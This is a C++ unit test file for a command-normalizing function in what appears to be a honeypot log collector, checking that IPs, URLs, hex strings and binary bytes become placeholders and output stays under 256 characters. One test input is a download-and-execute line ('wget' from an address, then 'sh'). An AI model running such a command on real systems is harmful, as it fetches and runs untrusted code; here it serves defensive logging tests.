#include "collector/ingest/text_values.hpp"

#include <gtest/gtest.h>
#include <string>

namespace apiary::collector {
namespace {

TEST(NormalizeCommandTest, PutsPlaceholdersForWhatVaries) {
    EXPECT_EQ(normalizeCommand("RETR", "file12.txt"), "RETR file<n>.txt");
    EXPECT_EQ(normalizeCommand("PORT", "192.0.2.1"), "PORT <ip>");
    EXPECT_EQ(normalizeCommand("ping", "2001:db8::1"), "ping <ip>");
    EXPECT_EQ(normalizeCommand("wget", "http://192.0.2.1/x; sh x"), "wget <url>; sh x");
    EXPECT_EQ(normalizeCommand("USER", "a\xff\x01z"), "USER a<bin>z");
    EXPECT_EQ(normalizeCommand("get", "0123456789abcdef0123456789abcdef"), "get <hex>");
}

TEST(NormalizeCommandTest, TakesABackslashBeforeAnXForWhatItIs) {
    EXPECT_EQ(normalizeCommand("USER", "\\x"), "USER \\\\x");
    EXPECT_EQ(normalizeCommand("USER", "\\x\x01"), "USER \\\\x<bin>");
    EXPECT_EQ(normalizeCommand("\\xab", ""), "\\\\xab");
}

TEST(NormalizeCommandTest, NeedsNoMoreRoomThanItsColumnHas) {
    EXPECT_LE(normalizeCommand(std::string(100, 'v'), std::string(100'000, '\\')).size(), 256U);
    EXPECT_LE(normalizeCommand("USER", std::string(100'000, '\xff')).size(), 256U);
}

}  // namespace
}  // namespace apiary::collector
